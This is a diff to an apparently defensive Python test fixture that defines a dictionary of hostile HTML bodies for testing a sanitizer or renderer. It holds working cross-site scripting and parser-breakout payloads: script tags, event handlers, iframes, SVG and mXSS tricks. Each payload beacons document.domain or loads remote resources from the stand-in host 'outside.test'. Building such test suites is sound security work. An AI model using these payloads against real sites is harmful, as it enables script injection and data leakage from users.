@@ -5,14 +5,16 @@ from __future__ import annotations
 OUTSIDE = "outside.test"
 """Where hostile pages want to go; whoever tests with a browser makes this name lead to a server that counts."""
 
-_RUN = f"new Image().src='http://{OUTSIDE}/ran?'+document.domain"
+RUN = f"console.log(`ran`);new Image().src=`http://{OUTSIDE}/ran?`+document.domain"
+"""A script that says on the console that it ran, and asks the outside; without quotes, so that it fits into any attribute."""
+
 _TO = f"http://{OUTSIDE}"
 
 HOSTILE = {
-    "script": f"<script>{_RUN}</script><script src='{_TO}/s.js'></script><SCRIPT/x>{_RUN}</SCRIPT>",
+    "script": f"<script>{RUN}</script><script src='{_TO}/s.js'></script><SCRIPT/x>{RUN}</SCRIPT>",
     "events": (
-        f'<img src=x onerror="{_RUN}"><body onload="{_RUN}"><svg onload="{_RUN}"></svg><details open ontoggle="{_RUN}">x'
-        f'</details><input autofocus onfocus="{_RUN}"><marquee onstart="{_RUN}">x</marquee>'
+        f'<img src=x onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}"></svg><details open ontoggle="{RUN}">x'
+        f'</details><input autofocus onfocus="{RUN}"><marquee onstart="{RUN}">x</marquee>'
     ),
     "images": (
         f"<img src='{_TO}/i.png'><img src='//{OUTSIDE}/j.png'><img srcset='{_TO}/k.png 2x'><picture><source srcset="
@@ -32,12 +34,12 @@ HOSTILE = {
     ),
     "base": f"<base href='{_TO}/' target=_top><img src='rel.png'><a id=go href='next.htm'>下一页</a>",
     "frames": (
-        f"<iframe src='{_TO}/f'></iframe><iframe srcdoc=\"<script>{_RUN}</script>\"></iframe><object data='{_TO}/o'>"
+        f"<iframe src='{_TO}/f'></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe><object data='{_TO}/o'>"
         f"</object><embed src='{_TO}/e'><applet code=x archive='{_TO}/a.jar'></applet><frameset><frame src='{_TO}/fs'>"
         "</frameset><portal src=http://outside.test></portal>"
     ),
     "links": (
-        f"<a id=go href='{_TO}/link' target=_top ping='{_TO}/ping'>附件</a><a href='javascript:{_RUN}'>x</a>"
+        f"<a id=go href='{_TO}/link' target=_top ping='{_TO}/ping'>附件</a><a href='javascript:{RUN}'>x</a>"
         f"<map name=m><area href='{_TO}/area'></map><svg><a xlink:href='{_TO}/svg'><text y=20>x</text></a></svg>"
         f"<svg><a><animate attributeName=href values='{_TO}/anim'/><text y=20>y</text></a></svg>"
     ),
@@ -47,14 +49,14 @@ HOSTILE = {
     ),
     "svg": (
         f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image href='{_TO}/i.svg'/><use xlink:href='{_TO}/u.svg#x'/>"
-        f"<script>{_RUN}</script><foreignObject><img src='{_TO}/fo.png'></foreignObject><set attributeName=onload to=x /></svg>"
+        f"<script>{RUN}</script><foreignObject><img src='{_TO}/fo.png'></foreignObject><set attributeName=onload to=x /></svg>"
     ),
     "breaking out": (
-        f"<title></title><script>{_RUN}</script><!--><script>{_RUN}</script>--><style></style><img src=x onerror='{_RUN}'>"
-        f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\"></noscript><textarea></textarea><script>{_RUN}"
-        f'</script><math><mi><table><mglyph><style><img src=x onerror="{_RUN}"></style></mglyph></table></mi></math>'
-        f"<template shadowrootmode=open><img src='{_TO}/shadow.png'></template><xmp></xmp><script>{_RUN}</script>"
-        f"<a {{x=1 href='{_TO}/odd' \"'=2 @click='x'>y</a><plaintext><script>{_RUN}</script>"
+        f"<title></title><script>{RUN}</script><!--><script>{RUN}</script>--><style></style><img src=x onerror='{RUN}'>"
+        f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript><textarea></textarea><script>{RUN}"
+        f'</script><math><mi><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mi></math>'
+        f"<template shadowrootmode=open><img src='{_TO}/shadow.png'></template><xmp></xmp><script>{RUN}</script>"
+        f"<a {{x=1 href='{_TO}/odd' \"'=2 @click='x'>y</a><plaintext><script>{RUN}</script>"
     ),
 }
 """Bodies by what they try."""
